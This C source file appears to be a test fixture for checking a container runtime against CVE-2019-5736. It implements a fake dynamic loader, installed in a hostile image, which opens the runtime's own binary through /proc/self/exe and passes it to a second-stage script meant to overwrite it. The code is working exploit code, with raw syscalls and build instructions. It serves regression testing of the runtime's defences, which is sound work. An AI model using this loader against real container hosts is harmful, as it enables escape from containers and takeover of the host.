/* A hostile image's "dynamic loader" (CVE-2019-5736 attack test).
 *
 * Installed in the image as /lib64/ld-linux-x86-64.so.2. When a script
 * whose interpreter line is `#!/proc/self/exe` runs in the container, the
 * kernel loads the exe of the process that execs it (the runtime's binary,
 * if the runtime did not seal it) and, that binary being dynamically linked,
 * hands control to this "loader". It opens /proc/self/exe (the runtime's
 * binary) with O_PATH and execs the image's /stage2 script with that fd,
 * which tries to reopen it for writing once the runtime no longer runs it.
 *
 * No libc: a static-pie ELF (ET_DYN, like a real ld.so) with raw syscalls
 * (x86-64) and only RIP-relative addresses, so that it needs no relocation
 * when the kernel loads it as an interpreter at a random base.
 * Build: gcc -static-pie -nostdlib -fPIE -O0 -o fake_ld fake_ld.c
 */
static long sc(long n, long a, long b, long c)
{
    long r;
    __asm__ volatile("syscall" : "=a"(r) : "a"(n), "D"(a), "S"(b), "d"(c) : "rcx", "r11", "memory");
    return r;
}

void loader_main(void)
{
    char num[16];
    const char *argv[4];
    const char *envp[2];
    long fd = sc(2 /* open */, (long)"/proc/self/exe", 010000000 /* O_PATH */, 0);
    int i = 15;
    num[i] = 0;
    if (fd < 0)
        fd = 99999;
    do {
        num[--i] = '0' + fd % 10;
        fd /= 10;
    } while (fd > 0);
    argv[0] = "sh";
    argv[1] = "/stage2";
    argv[2] = &num[i];
    argv[3] = 0;
    envp[0] = "PATH=/bin";
    envp[1] = 0;
    sc(59 /* execve */, (long)"/bin/sh", (long)argv, (long)envp);
    sc(60 /* exit */, 127, 0, 0);
}

__asm__(".globl _start\n_start:\n\tand $-16, %rsp\n\tcall loader_main\n\thlt\n");
